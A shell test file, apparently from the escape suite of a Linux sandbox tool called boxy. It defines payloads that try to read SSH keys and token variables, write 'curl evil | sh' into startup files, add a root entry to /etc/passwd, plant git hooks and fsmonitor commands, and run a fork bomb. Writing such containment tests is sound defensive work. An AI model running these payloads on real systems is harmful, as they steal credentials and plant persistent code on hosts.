# tests/escape/cases.sh — the cases of the escape suite (sourced by escape.sh).
#
# Each `attack` line is one TAP case: NAME, whether the detector is expected to
# fire unsandboxed ("fires"/"quiet"), a description, boxy flags, then the payload
# (sh). Variables in the payload: $A the attack program, $H the planted home,
# $W the workdir, $M the bait marker, $S the suite dir, $HP a host process,
# $CP the harness (the caller), $PORT the host loopback listener, $PWHOME the
# test user's passwd home. `at NAME ARGS` runs attack.c; `hit WHAT` prints
# ESCAPED when stdin carries the bait. doc/testing.md says what each proves.

## ---- host-side set-up and checks -------------------------------------------------
# A repository in the workdir with a submodule, as a developer's checkout has.
git_setup() {
	local g=(git -c user.name=boxy-test -c user.email=boxy-test@example.invalid
		-c init.defaultBranch=main -c protocol.file.allow=always)
	mkdir -p "$CASE/subsrc"
	(cd "$CASE/subsrc" && "${g[@]}" init -q && echo sub >f && "${g[@]}" add f &&
		"${g[@]}" commit -qm sub) >/dev/null 2>&1
	(cd "$CASE_WORK" && "${g[@]}" init -q && echo hello >README && "${g[@]}" add README &&
		"${g[@]}" commit -qm init &&
		"${g[@]}" submodule add -q "$CASE/subsrc" sub && "${g[@]}" commit -qm sub &&
		: >.git/config.worktree) >"$CASE/git-setup.log" 2>&1 ||
		echo "BROKEN: git setup failed: $(tail -2 "$CASE/git-setup.log")" >"$CASE/setup.err"
	git_snapshot >"$CASE/git.before"
}

# What must not change on the host: the gitdirs' identity, config and hooks.
git_snapshot() {
	(
		cd "$CASE_WORK" || exit
		stat -c '%n %F %i' .git .git/hooks .git/modules/sub .git/modules/sub/hooks 2>&1
		for f in .git/config .git/config.worktree .git/hooks/* \
			.git/modules/sub/config .git/modules/sub/hooks/*; do
			[ -e "$f" ] && echo "$f $(sha256sum <"$f" | cut -c1-16) $(stat -c %a "$f")"
		done
		ls -A .git | grep -v -E '^(index|objects|refs|logs|HEAD|ORIG_HEAD|COMMIT_EDITMSG)$' |
			grep -v -E '^(modules|description|info|packed-refs|branches|hooks|config|config.worktree)$' |
			sed 's/^/extra in .git: /'
	)
}

git_check() {
	[ ! -s "$CASE/setup.err" ] || cat "$CASE/setup.err"
	git_snapshot >"$CASE/git.after"
	if ! cmp -s "$CASE/git.before" "$CASE/git.after"; then
		echo "ESCAPED: the repository's config/hooks changed on the host:"
		diff "$CASE/git.before" "$CASE/git.after" | grep '^[<>]' | head -5 | sed 's/^/    /'
	fi
}

# After the run .git/commondir must not exist: git would take config and hooks from it.
git_commondir_check() {
	[ ! -s "$CASE/setup.err" ] || cat "$CASE/setup.err"
	if [ -e "$CASE_WORK/.git/commondir" ]; then
		echo "ESCAPED: .git/commondir survived the run: $(head -c 80 "$CASE_WORK/.git/commondir")"
	fi
}

# A vendored repository one level below the workdir (lib/.git).
git_nested_setup() {
	local g=(git -c user.name=boxy-test -c user.email=boxy-test@example.invalid -c init.defaultBranch=main)
	mkdir -p "$CASE_WORK/lib"
	(cd "$CASE_WORK/lib" && "${g[@]}" init -q && echo x >x && "${g[@]}" add x &&
		"${g[@]}" commit -qm x) >"$CASE/git-setup.log" 2>&1 ||
		echo "BROKEN: git setup failed" >"$CASE/setup.err"
	(cd "$CASE_WORK/lib" && stat -c '%n %i' .git .git/hooks && sha256sum .git/config; ls -A .git/hooks) \
		>"$CASE/git.before" 2>&1
}
git_nested_check() {
	[ ! -s "$CASE/setup.err" ] || cat "$CASE/setup.err"
	(cd "$CASE_WORK/lib" && stat -c '%n %i' .git .git/hooks && sha256sum .git/config; ls -A .git/hooks) \
		>"$CASE/git.after" 2>&1
	cmp -s "$CASE/git.before" "$CASE/git.after" ||
		echo "ESCAPED: lib/.git config/hooks changed on the host"
}

# After the run, the host's git in the workdir (and lib/, a/b/x when there):
# a command the payload planted (core.fsmonitor, a hook) leaves $W/.fsmon-*.
git_host_check() {
	local g=(git -c user.name=boxy-test -c user.email=boxy-test@example.invalid) f
	[ ! -s "$CASE/setup.err" ] || cat "$CASE/setup.err"
	(cd "$CASE_WORK" && "${g[@]}" status >/dev/null 2>&1
		[ ! -d lib ] || "${g[@]}" -C lib status >/dev/null 2>&1
		"${g[@]}" commit -q --allow-empty -m host-check >/dev/null 2>&1)
	for f in "$CASE_WORK"/.fsmon-*; do
		[ ! -e "$f" ] || echo "ESCAPED: the host's git ran a command the payload planted (${f##*/})"
	done
	if [ -f "$SUITE/pp/conf/key" ] && [ "$(cat "$SUITE/pp/conf/key")" != keep ]; then
		echo "ESCAPED: the --protect file was replaced on the host"
	fi
	return 0
}
# F3: a repository with a submodule and a vendored lib/, and a --protect file
# two levels into a --rw directory.
git_parents_setup() {
	git_setup
	git_nested_setup
	rm -rf "$SUITE/pp" && mkdir -p "$SUITE/pp/conf" && echo keep >"$SUITE/pp/conf/key"
}
# F4: hooks and an include in the work tree, as husky and shared configs do.
git_worktree_refs_setup() {
	git_setup
	(cd "$CASE_WORK" && mkdir -p .husky inc && : >.gitconfig && : >inc/c2 &&
		git config core.hooksPath .husky && git config include.path ../.gitconfig &&
		git config 'includeIf.gitdir:/.path' ../inc/c2) >>"$CASE/git-setup.log" 2>&1 ||
		echo "BROKEN: git setup failed" >"$CASE/setup.err"
}

# A file in the host's /dev/shm, and nothing left there by the payload.
shm_plant() { echo "shm $BAIT" >"/dev/shm/boxy-escape-$BAIT"; }
shm_clean() {
	rm -f "/dev/shm/boxy-escape-$BAIT"
	if [ -e "/dev/shm/boxy-escape-in-$BAIT" ]; then
		echo "ESCAPED: the payload wrote into the host's /dev/shm"
		rm -f "/dev/shm/boxy-escape-in-$BAIT"
	fi
}

link_id_rsa() { ln -s "$CASE_HOME/.ssh/id_rsa" "$CASE_WORK/link"; }
link_sockets() {
	ln -s "$SUITE/run/agent.sock" "$CASE_WORK/agent.link"
	ln -s "$SUITE/run/docker.sock" "$CASE_WORK/docker.link"
}

# Writes outside the workdir must not persist in the host's home.
home_check() {
	local f
	for f in .bashrc .profile .config/autostart escape-from-workdir; do
		[ -e "$CASE_HOME/$f" ] && echo "ESCAPED: $CASE_HOME/$f was created on the host"
	done
	return 0
}

# A bait file in the test user's real (passwd) home, beside its $HOME.
pwhome_plant() {
	if [ "$(id -un)" = "$HARNESS_TEST_USER" ] && [ -w "$PWHOME" ]; then
		mkdir -p "$PWHOME/.ssh" && chmod 0700 "$PWHOME/.ssh"
		echo "secret $BAIT-pwhome" >"$PWHOME/.ssh/boxy-escape-bait"
	fi
}
pwhome_clean() { rm -f "$PWHOME/.ssh/boxy-escape-bait"; return 0; }

## ---- the witnesses of the quiet cases (see quiet_witness in escape.sh) ------------------
quiet_witness proc-kcore case:proc-masks-mounted
quiet_witness proc-kallsyms case:proc-masks-mounted
quiet_witness proc-sysrq case:proc-masks-mounted
quiet_witness proc-kmsg case:proc-masks-mounted
quiet_witness proc-1-environ case:pid-namespace case:env-secrets
quiet_witness daemon-socket case:agent-socket case:docker-socket
quiet_witness write-system case:system-mounts-ro "unit:tests/unit/test-landlock.c:write /etc/hostname"
quiet_witness dev-nodes case:dev-minimal
quiet_witness mount 'unit:tests/unit/test-seccomp.c:{ "mount", V_DENY }'
quiet_witness setns 'unit:tests/unit/test-seccomp.c:{ "setns", V_DENY }'
quiet_witness bpf 'unit:tests/unit/test-seccomp.c:{ "bpf", V_DENY }'
quiet_witness af-packet 'unit:tests/unit/test-seccomp.c:{ "AF_PACKET", "socket", { 17, 3, 0x300 }, V_DENY }'
quiet_witness chroot 'unit:tests/unit/test-seccomp.c:{ "chroot", V_DENY }'
quiet_witness kexec 'unit:tests/unit/test-seccomp.c:{ "kexec_load", V_DENY }' \
	'unit:tests/unit/test-seccomp.c:{ "kexec_file_load", V_DENY }'
quiet_witness init-module 'unit:tests/unit/test-seccomp.c:{ "init_module", V_DENY }' \
	'unit:tests/unit/test-seccomp.c:{ "finit_module", V_DENY }'
quiet_witness open-by-handle 'unit:tests/unit/test-seccomp.c:{ "open_by_handle_at", V_DENY }'

## ---- the cases ------------------------------------------------------------------------
all_cases() {
	local f n

	# -- credentials under the planted HOME, by every path a payload would try
	for f in $BAIT_FILES; do
		n=$(echo "$f" | tr -c 'a-zA-Z0-9\n' '-' | sed 's/^-*//')
		SETUP=link_id_rsa attack "read-$n" fires \
			"cannot read ~/$f (via \$HOME, absolute, /proc/1/root, /proc/HOSTPID/root, ../, symlink)" -- "
f='$f'
for p in \"\$HOME/\$f\" \"\$H/\$f\" \"/proc/1/root\$H/\$f\" \"/proc/\$HP/root\$H/\$f\" \
	\"/proc/self/root\$H/\$f\" \
	\"../\$f\" \"../../../../../../../..\$H/\$f\"; do
	cat \"\$p\" 2>/dev/null | hit \"read \$p\"
done
[ \"\$f\" != .ssh/id_rsa ] ||
	cat ./link 2>/dev/null | hit 'read ~/.ssh/id_rsa through a symlink in the workdir'
"
	done
	SETUP=pwhome_plant HOSTCHECK=pwhome_clean attack read-passwd-home fires \
		"cannot read the caller's passwd home ($PWHOME)" -- '
cat "$PWHOME/.ssh/boxy-escape-bait" 2>/dev/null | hit "read $PWHOME/.ssh/boxy-escape-bait"
ls -A "$PWHOME/.ssh" 2>/dev/null | grep -q boxy-escape-bait && echo "ESCAPED: listed $PWHOME/.ssh"
'
	works home-fresh "\$HOME is the caller's home path, empty but for the workdir" -- '
[ "$HOME" = "$H" ] || echo "BROKEN: HOME=$HOME, expected $H"
extra=$(ls -A "$HOME" | grep -v -x project)
[ -z "$extra" ] || echo "ESCAPED: the sandbox HOME is not fresh: $extra"
echo WORKS'

	attack scan-fs sandbox "no bait anywhere in the visible filesystem (all but /usr, /proc, /dev)" -- '
for d in /* /.[!.]*; do
	case $d in /usr|/proc|/dev|/sys|"/.[!.]*") continue ;; esac
	grep -rlsI --exclude=attack "$M" "$d" 2>/dev/null | head -3 | sed "s/^/ESCAPED: bait found in /"
done
:'

	# -- secrets in the environment
	attack env-secrets fires "no caller secret reaches the environment (env, /proc/*/environ)" -- '
env | hit "a variable carries a secret: $(env | grep "$M" | cut -d= -f1 | tr "\n" " ")"
for v in AWS_SECRET_ACCESS_KEY AWS_ACCESS_KEY_ID GITHUB_TOKEN NPM_TOKEN ANTHROPIC_API_KEY \
	SSH_AUTH_SOCK DOCKER_HOST BOXY_PASS_ME; do
	eval "x=\${$v:-}"
	[ -z "$x" ] || echo "ESCAPED: $v is set ($x)"
done
for e in /proc/[0-9]*/environ; do tr "\0" "\n" <"$e" 2>/dev/null | hit "secret in $e"; done
'
	attack proc-1-environ quiet "cannot read the host init's /proc/1/environ" -- '
tr "\0" "\n" </proc/1/environ 2>/dev/null | hit "secret in /proc/1/environ"
tr "\0" "\n" </proc/1/environ 2>/dev/null | grep -q "^PATH=/usr/local/sbin" &&
	echo "ESCAPED: /proc/1 is the host init"
:'

	# -- the agent and docker sockets
	SETUP=link_sockets attack agent-socket fires \
		"cannot connect to the SSH agent socket (path, \$HOME link, workdir symlink)" -- '
at connect-unix "$S/run/agent.sock"
at connect-unix "$H/.ssh/agent.sock"
at connect-unix ./agent.link'
	SETUP=link_sockets attack docker-socket fires "cannot connect to the Docker socket (path, workdir symlink)" -- '
at connect-unix "$S/run/docker.sock"
at connect-unix ./docker.link'
	attack daemon-socket quiet "cannot reach boxy's own daemon socket" -- '
for p in "$S/run/boxy/daemon.sock" "${XDG_RUNTIME_DIR:-/nonexistent}/boxy/daemon.sock"; do
	[ -S "$p" ] && at connect-unix "$p"
done
:'
	attack abstract-socket fires "cannot connect to a host abstract unix socket" -- '
at connect-unix "@boxy-escape-$M"'

	# -- procfs recon
	attack proc-kcore quiet "cannot read /proc/kcore" -- '
n=$(head -c 64 /proc/kcore 2>/dev/null | wc -c)
[ "$n" -eq 0 ] || echo "ESCAPED: read $n bytes of /proc/kcore"'
	attack proc-kallsyms quiet "/proc/kallsyms gives no kernel addresses" -- '
grep -m1 -E "^[0-9a-f]*[1-9a-f][0-9a-f]* " /proc/kallsyms 2>/dev/null | sed "s/^/ESCAPED: kernel address: /"
:'
	attack proc-keys fires "/proc/keys lists no keys" -- '
k=$(head -3 /proc/keys 2>/dev/null | tr "\n" ";")
[ -z "$k" ] || echo "ESCAPED: /proc/keys lists keys: $k"'
	attack proc-sysrq quiet "cannot write /proc/sysrq-trigger" -- '
(printf h >/proc/sysrq-trigger) 2>/dev/null && echo "ESCAPED: wrote /proc/sysrq-trigger"
:'
	attack proc-kmsg quiet "cannot read /proc/kmsg" -- '
n=$(timeout 1 head -c 16 /proc/kmsg 2>/dev/null | wc -c)
[ "$n" -eq 0 ] || echo "ESCAPED: read /proc/kmsg"'
	# The masks themselves, read from the sandbox's own mountinfo: each file boxy
	# masks is, where this kernel has it, a read-only mount (/dev/null, or an
	# empty tmpfs for a directory). Holds whatever the host lets a user read, so
	# it witnesses the quiet proc-* cases; unsandboxed nothing is masked: it fires.
	attack proc-masks-mounted fires "every /proc file boxy masks is a read-only mount in the sandbox mountinfo" -- '
for f in kcore kallsyms keys key-users timer_list sched_debug sysrq-trigger kmsg latency_stats \
	timer_stats modules iomem ioports slabinfo vmallocinfo pagetypeinfo zoneinfo buddyinfo \
	lockdep lockdep_chains lockdep_stats config.gz mtrr kpagecount kpageflags kpagecgroup \
	softirqs interrupts acpi asound bus driver fs irq scsi tty dynamic_debug sysvipc sys; do
	p=/proc/$f
	[ -e "$p" ] || continue
	awk -v p="$p" "\$5 == p && \$6 ~ /^ro(,|\$)/ { m = 1 } END { exit !m }" /proc/self/mountinfo ||
		echo "ESCAPED: $p is not masked (no read-only mount on it)"
done
:'
	attack pid-namespace fires "host processes are invisible: /proc, ps, kill -0 of a host pid and of the caller" -- '
[ "$HP" -gt 300 ] && ls /proc | grep -qx "$HP" && echo "ESCAPED: host pid $HP listed in /proc"
[ "$HP" -gt 300 ] && kill -0 "$HP" 2>/dev/null && echo "ESCAPED: kill -0 host pid $HP"
[ "$CP" -gt 300 ] && kill -0 "$CP" 2>/dev/null && echo "ESCAPED: kill -0 the caller (pid $CP)"
grep -l "boxy-host-marke[r]-$M" /proc/[0-9]*/cmdline 2>/dev/null | head -1 |
	sed "s/^/ESCAPED: host process visible at /"
ps -eo args 2>/dev/null | grep -q "boxy-host-marke[r]-$M" && echo "ESCAPED: ps shows the host process"
n=$(ls -d /proc/[0-9]* 2>/dev/null | wc -l)
[ "$n" -le 20 ] || echo "ESCAPED: $n processes visible in /proc, more than a fresh sandbox has"
:'
	attack sys-absent fires "/sys is absent" -- '
for p in /sys/kernel /sys/class/net /sys/fs/cgroup /sys/devices; do
	[ -e "$p" ] && echo "ESCAPED: $p exists"
done
:'

	# -- the read-only system and the host home
	# The mount each system path lives on (the last, longest mount point above
	# it in mountinfo) is read-only: witnesses write-system, which an
	# unprivileged user cannot do anyway; unsandboxed the host's / is writable.
	attack system-mounts-ro fires "/, /usr, /usr/bin, /etc and /etc/passwd lie on read-only mounts" -- '
for p in / /usr /usr/bin /etc /etc/passwd; do
	o=$(awk -v p="$p" "{ mp = \$5; if (mp == p || mp == \"/\" || index(p, mp \"/\") == 1)
		if (length(mp) >= length(best)) { best = mp; opt = \$6 } } END { print opt }" /proc/self/mountinfo)
	case $o in ro|ro,*) ;; *) echo "ESCAPED: $p is on a writable mount ($o)" ;; esac
done'
	attack write-system quiet "cannot write /usr or /etc" -- '
touch "/usr/boxy-escape-$M" 2>/dev/null && echo "ESCAPED: created a file in /usr"
touch "/usr/bin/boxy-escape-$M" 2>/dev/null && echo "ESCAPED: created a file in /usr/bin"
(echo "x::0:0::/:/bin/sh" >>/etc/passwd) 2>/dev/null && echo "ESCAPED: appended to /etc/passwd"
touch "/etc/boxy-escape-$M" 2>/dev/null && echo "ESCAPED: created a file in /etc"
:'
	HOSTCHECK=home_check attack write-home fires "writes to \$HOME and ../ do not reach the host's home" -- '
echo "curl evil | sh" >>"$HOME/.bashrc" 2>/dev/null
echo "curl evil | sh" >>"$H/.profile" 2>/dev/null
mkdir -p "$HOME/.config/autostart" 2>/dev/null
touch ../escape-from-workdir 2>/dev/null
:'

	# -- git: hooks and commands that would run on the host later
	SETUP=git_setup HOSTCHECK=git_check attack git-hook fires "cannot write .git/hooks/pre-commit" -- '
(printf "#!/bin/sh\ntouch /tmp/pwned\n" >.git/hooks/pre-commit && chmod +x .git/hooks/pre-commit) 2>/dev/null &&
	echo "ESCAPED: wrote .git/hooks/pre-commit"
:'
	SETUP=git_setup HOSTCHECK=git_check attack git-hookspath fires "cannot set core.hooksPath" -- '
git config core.hooksPath /tmp/x 2>/dev/null && echo "ESCAPED: git config core.hooksPath"
:'
	SETUP=git_setup HOSTCHECK=git_check attack git-pager fires "cannot set core.pager / core.sshCommand / alias !sh" -- '
git config core.pager "sh -c id" 2>/dev/null && echo "ESCAPED: git config core.pager"
git config core.sshCommand "sh -c id" 2>/dev/null && echo "ESCAPED: git config core.sshCommand"
git config alias.st "!sh -c id" 2>/dev/null && echo "ESCAPED: git config alias.st !sh"
git config --worktree core.fsmonitor "sh -c id" 2>/dev/null && echo "ESCAPED: git config --worktree"
:'
	SETUP=git_setup HOSTCHECK=git_check attack git-config-edit fires "cannot edit .git/config or config.worktree directly" -- '
(printf "[core]\n\thooksPath = /tmp/x\n" >>.git/config) 2>/dev/null && echo "ESCAPED: appended to .git/config"
(printf "[core]\n\tfsmonitor = sh -c id\n" >>.git/config.worktree) 2>/dev/null && echo "ESCAPED: wrote .git/config.worktree"
if ln .git/config cfg-hardlink 2>/dev/null; then
	(printf "[core]\n\tpager = sh -c id\n" >>cfg-hardlink) 2>/dev/null && echo "ESCAPED: wrote .git/config through a hard link"
	rm -f cfg-hardlink
fi
:'
	SETUP=git_setup HOSTCHECK=git_check attack git-config-rename fires "cannot replace .git/config or .git/hooks by rename" -- '
(cat .git/config; printf "[core]\n\thooksPath = /tmp/x\n") >.git/config.new 2>/dev/null
mv -f .git/config.new .git/config 2>/dev/null && echo "ESCAPED: replaced .git/config by rename"
mv .git/hooks .git/hooks.old 2>/dev/null && echo "ESCAPED: renamed .git/hooks away"
rm -rf .git/config.new .git/hooks.old 2>/dev/null
:'
	SETUP=git_setup HOSTCHECK=git_check attack git-mv-gitdir fires "cannot rename .git out of the way" -- '
if mv .git .git2 2>/dev/null; then
	echo "ESCAPED: renamed .git"
	mkdir -p .git && cp -R .git2/. .git/ 2>/dev/null
	printf "[core]\n\thooksPath = /tmp/x\n" >>.git/config
fi
:'
	SETUP=git_setup HOSTCHECK=git_check attack git-submodule fires "cannot write a submodule gitdir's hooks or config" -- '
(printf "#!/bin/sh\nid\n" >.git/modules/sub/hooks/post-checkout) 2>/dev/null && echo "ESCAPED: wrote a submodule hook"
git -C sub config core.hooksPath /tmp/x 2>/dev/null && echo "ESCAPED: git -C sub config core.hooksPath"
(printf "[core]\n\tpager = sh -c id\n" >>.git/modules/sub/config) 2>/dev/null && echo "ESCAPED: appended to the submodule config"
mv .git/modules/sub .git/modules/sub2 2>/dev/null && echo "ESCAPED: renamed the submodule gitdir"
:'

	SETUP=git_setup HOSTCHECK=git_commondir_check attack git-commondir fires \
		"a planted .git/commondir (pointing git at a config and hooks the payload wrote) is gone after the run" -- '
mkdir -p evil-common/hooks && printf "[core]\n\thooksPath = /tmp/x\n" >evil-common/config
cp -R .git/objects .git/refs .git/HEAD evil-common/ 2>/dev/null
(echo ../evil-common >.git/commondir) 2>/dev/null
:'
	SETUP=git_nested_setup HOSTCHECK=git_nested_check attack git-nested fires \
		"cannot write the hooks/config of a repository one level below the workdir" -- '
(printf "#!/bin/sh\nid\n" >lib/.git/hooks/pre-commit) 2>/dev/null && echo "ESCAPED: wrote lib/.git/hooks/pre-commit"
git -C lib config core.hooksPath /tmp/x 2>/dev/null && echo "ESCAPED: git -C lib config core.hooksPath"
mv lib/.git lib/.git2 2>/dev/null && echo "ESCAPED: renamed lib/.git"
:'
	SETUP=git_parents_setup HOSTCHECK=git_host_check attack git-parent-rename fires \
		"cannot rename away the directory above a protected gitdir or --protect file and rebuild it" \
		--rw "$SUITE/pp" --protect "$SUITE/pp/conf/key" -- '
S_PP="$S/pp"
if mv .git/modules .git/modules.old 2>/dev/null; then
	mkdir -p .git/modules && cp -R .git/modules.old/sub .git/modules/sub
	git -C .git/modules/sub config core.fsmonitor "touch $W/.fsmon-modules; false"
	echo "ESCAPED: renamed .git/modules"
fi
if mv lib lib.old 2>/dev/null; then
	mkdir lib && git init -q lib && git -C lib config core.fsmonitor "touch $W/.fsmon-lib; false"
	echo "ESCAPED: renamed lib/"
fi
if mv "$S_PP/conf" "$S_PP/conf.old" 2>/dev/null; then
	mkdir "$S_PP/conf" && echo planted >"$S_PP/conf/key"
	echo "ESCAPED: renamed the directory above a --protect file"
fi
:'
	SETUP=git_worktree_refs_setup HOSTCHECK=git_host_check attack git-worktree-refs fires \
		"cannot rewrite a core.hooksPath or include.path target that lies in the work tree" -- '
(printf "#!/bin/sh\ntouch $W/.fsmon-hookspath\n" >.husky/pre-commit && chmod +x .husky/pre-commit) \
	2>/dev/null && echo "ESCAPED: wrote .husky/pre-commit"
(printf "[core]\n\tfsmonitor = \"touch $W/.fsmon-include; false\"\n" >.gitconfig) 2>/dev/null &&
	echo "ESCAPED: wrote the included ../.gitconfig"
(printf "[core]\n\tfsmonitor = \"touch $W/.fsmon-includeif; false\"\n" >inc/c2) 2>/dev/null &&
	echo "ESCAPED: wrote the includeIf target"
:'
	SETUP=git_setup HOSTCHECK=git_host_check attack git-gitlink-planted fires \
		"a repository planted deep in the work tree and reached through a gitlink is quarantined" -- '
mkdir -p a/b/x && (cd a/b/x && git init -q && echo y >f && git add f &&
	git -c user.name=a -c user.email=a@b commit -qm x) >/dev/null 2>&1 &&
	git update-index --add --cacheinfo "160000,$(git -C a/b/x rev-parse HEAD),a/b/x" 2>/dev/null &&
	git -C a/b/x config core.fsmonitor "touch $W/.fsmon-gitlink; false"
:'

	# -- devices and shared memory
	attack dev-nodes quiet "no host device node is openable (kmsg, mem, disks, consoles)" -- '
for d in /dev/kmsg /dev/mem /dev/kmem /dev/port /dev/sda /dev/vda /dev/nvme0n1 /dev/loop0 \
	/dev/tty0 /dev/tty1 /dev/console /dev/fuse /dev/net/tun /dev/btrfs-control /dev/cpu/0/msr; do
	[ -e "$d" ] || continue
	(: <"$d") 2>/dev/null && echo "ESCAPED: opened $d"
done
:'
	# /dev holds only what boxy puts there, each device node a bind of the host
	# node of the same name: witnesses dev-nodes, whose devices a user cannot
	# open anyway; unsandboxed the host /dev has many more entries.
	attack dev-minimal fires "/dev holds only null zero full random urandom tty pts ptmx shm and the fd links" -- '
for e in /dev/* /dev/.[!.]*; do
	[ -e "$e" ] || [ -L "$e" ] || continue
	case ${e#/dev/} in
	null|zero|full|random|urandom|tty|pts|ptmx|shm|fd|stdin|stdout|stderr) ;;
	*) echo "ESCAPED: /dev/${e#/dev/} exists" ;;
	esac
done
for n in null zero full random urandom; do
	awk -v p="/dev/$n" -v r="/$n" "\$5 == p && \$4 == r { m = 1 } END { exit !m }" /proc/self/mountinfo ||
		echo "ESCAPED: /dev/$n is not a bind of the host node of that name"
done
:'
	SETUP=shm_plant HOSTCHECK=shm_clean attack dev-shm fires "the host's /dev/shm is not shared" -- '
cat "/dev/shm/boxy-escape-$M" 2>/dev/null | hit "read the host /dev/shm"
(echo x >"/dev/shm/boxy-escape-in-$M") 2>/dev/null
:'
	attack sockets-visible sandbox "no unix socket of the host is visible anywhere (/dev/log, /run, /tmp...)" -- '
find / \( -path /proc -o -path /usr \) -prune -o -type s -print 2>/dev/null | head -5 | sed "s/^/ESCAPED: a socket is visible: /"
:'

	# -- namespaces, mounts, privileged syscalls
	attack mount quiet "mount -t tmpfs fails" -- 'at mount .; at mount /tmp'
	attack unshare-user fires "no nested user namespace (unshare -U)" -- 'at unshare-user'
	attack unshare-r fires "no nested user namespace with root (unshare -r, then mount)" -- 'at unshare-r'
	attack clone-newuser fires "clone(CLONE_NEWUSER) fails" -- 'at clone-newuser'
	attack clone3-newuser fires "clone3 with CLONE_NEWUSER fails" -- 'at clone3-newuser'
	attack setns quiet "setns into /proc/1/ns/* fails" -- 'at setns 1'
	attack inherited-fds fires "no descriptor of the caller reaches the payload (fds 7-9)" -- 'at fds'
	attack ptrace-child fires "ptrace of a child fails" -- 'at ptrace-child'
	attack ptrace-sibling fires "ptrace of a sibling fails" -- 'at ptrace-sibling'
	attack io_uring fires "io_uring_setup fails" -- 'at io_uring'
	attack bpf quiet "bpf() fails" -- 'at bpf'
	attack keyctl fires "keyctl cannot reach the caller's keyrings" -- 'at keyctl'
	attack perf fires "perf_event_open fails" -- 'at perf'
	attack userfaultfd fires "userfaultfd fails" -- 'at userfaultfd'
	attack tiocsti-pty fires "TIOCSTI on a pty of its own fails" -- '
"$A" tiocsti pty >"$S/tiocsti.$$" 2>&1; r=$?
if grep -q "untested: tiocsti: no terminal" "$S/tiocsti.$$"; then
	echo "blocked: tiocsti: no pty can be opened inside"
else
	cat "$S/tiocsti.$$"; [ $r -ne 159 ] || echo "blocked: tiocsti: killed by SIGSYS"
fi'
	attack personality fires "personality(ADDR_NO_RANDOMIZE) does not stick" -- 'at personality'
	attack af-packet quiet "socket(AF_PACKET) fails" -- 'at af-packet'
	attack chroot quiet "chroot fails" -- 'at chroot'
	attack kexec quiet "kexec_load fails" -- 'at kexec'
	attack init-module quiet "init_module/finit_module fail" -- 'at init-module'
	attack open-by-handle quiet "open_by_handle_at fails" -- 'at open-by-handle /'

	# -- network under --net none
	attack net-devices fires "only lo exists" -- 'at netdevs'
	attack net-loopback fires "a host loopback listener is unreachable" -- '
at connect-tcp 127.0.0.1 "$PORT"'

	# -- limits
	attack forkbomb fires "a fork bomb under --pids 64 is contained" --pids 64 -- '
t0=$(date +%s)
at forkbomb 300 64
[ $(( $(date +%s) - t0 )) -le 15 ] || echo "ESCAPED: the fork bomb ran for more than 15 s"'

	# Cases kept in files of their own (tests/escape/cases-*.sh, one per defence):
	# each registers a function in CASE_GROUPS and checks $PHASE itself.
	local g
	for g in "${CASE_GROUPS[@]}"; do "$g"; done

	[ "$PHASE" = sandbox ] || return 0
	sandbox_only_cases
}

## ---- cases that only make sense with boxy ---------------------------------------------------
sandbox_only_cases() {
	# TIOCSTI into the caller's terminal under --tty: needs a terminal, so under script(1).
	if only tiocsti-tty; then
		if command -v script >/dev/null; then
			case_new tiocsti-tty
			{ prelude; echo 'at tiocsti tty; at tioclinux tty; echo BOXY-CASE-DONE'; } >"$CASE_WORK/payload.sh"
			(cd "$CASE_WORK" && HOME=$CASE_HOME script -qec \
				"'$BOXY' run --net none --tty -- /bin/sh '$CASE_WORK/payload.sh'" /dev/null) \
				</dev/null >"$CASE/out" 2>"$CASE/err"
			RUN_RC=$?
			# The pty echoes what script(1) feeds it at stdin EOF as "^@": not payload output.
			tr -d '\r\0' <"$CASE/out" | sed 's/^\(\^@\)*//' >"$CASE/out.tmp" && mv "$CASE/out.tmp" "$CASE/out"
			: >"$CASE/host"
			verdict_sandboxed "TIOCSTI/TIOCLINUX on the caller's terminal (--tty) fail"
		else
			skip "TIOCSTI on the caller's terminal" "script(1) is not installed"
		fi
	fi

	# --timeout: 124 within ~5 s, and no process of the tree survives.
	if only timeout; then
		local t0 t1 left tag
		case_new timeout
		# The sleeps carry this run's own number: other runs of the suite on the machine,
		# as the same user, look for their survivors (and kill them) by name too, and
		# took this run's sleeps for theirs (a run that killed them saw exit 143 here).
		# 7173, not the 6173 such runs look for.
		tag=$(od -An -N4 -tu4 /dev/urandom | tr -d ' ')
		t0=$(date +%s%N)
		# A watchdog (SIGKILL, so its status 137 cannot pass for boxy's 124) keeps a
		# broken --timeout from hanging the suite.
		BOXY_WRAP="timeout -s KILL 20" \
			boxy_run --timeout 2s -- /bin/sh -c "sleep 7173.$tag & setsid sleep 7174.$tag & sleep 7175.$tag; echo BOXY-CASE-DONE"
		t1=$(date +%s%N)
		sleep 0.3
		left=$(pgrep -u "$(id -u)" -f "sleep 717[345]\\.$tag" | tr '\n' ' ')
		if [ "$RUN_RC" -eq 124 ] && [ $(((t1 - t0) / 1000000)) -le 5000 ] && [ -z "$left" ] &&
			! grep -q BOXY-CASE-DONE "$CASE/out"; then
			ok "--timeout 2s on sleep 60 exits 124 in $(((t1 - t0) / 1000000)) ms, nothing survives"
		else
			not_ok "--timeout 2s: exit $RUN_RC (want 124) after $(((t1 - t0) / 1000000)) ms (want <= 5000), survivors: ${left:-none}"
			diag_file "$CASE/err" 5
			[ -z "$left" ] || kill $left 2>/dev/null
		fi
	fi

	# --memory: not enforced without a delegated controller, and the audit says so.
	if only memory-audit; then
		case_new memory-audit
		boxy_run --memory 64M -- /bin/true
		if [ "$RUN_RC" -ne 0 ]; then
			not_ok "--memory run works (exit $RUN_RC)"
			diag_file "$CASE/err" 5
		elif grep -qw memory "/sys/fs/cgroup$(cut -d: -f3 /proc/self/cgroup)/cgroup.subtree_control" \
			2>/dev/null && [ -w "/sys/fs/cgroup$(cut -d: -f3 /proc/self/cgroup)" ]; then
			grep -qi '"memory"' "$CASE/audit.jsonl" &&
				ok "--memory is recorded in the audit log (controller delegated here)" ||
				not_ok "--memory is recorded in the audit log"
		elif grep -i 'memory' "$CASE/audit.jsonl" | grep -qiE 'not enforced|unenforced|degraded|no controller|not_enforced'; then
			ok "--memory reported not enforced in the audit log (no memory controller delegated)"
		else
			not_ok "--memory: no audit line says it is not enforced"
			diag_file "$CASE/audit.jsonl" 10
		fi
	fi

	# /tmp and $HOME tmpfs are bounded by --memory even when nothing else is. Read from
	# their size, not by filling them: full, they hold the whole --memory, and the memory
	# watchdog then kills the run (the memory-tmpfs case in cases-memory.sh).
	attack tmpfs-bounded sandbox "/tmp and \$HOME cannot grow past --memory 64M" --memory 64M -- '
for d in /tmp "$HOME"; do
	sz=$(df -k --output=size "$d" 2>/dev/null | tail -1 | tr -d " ")
	case $sz in
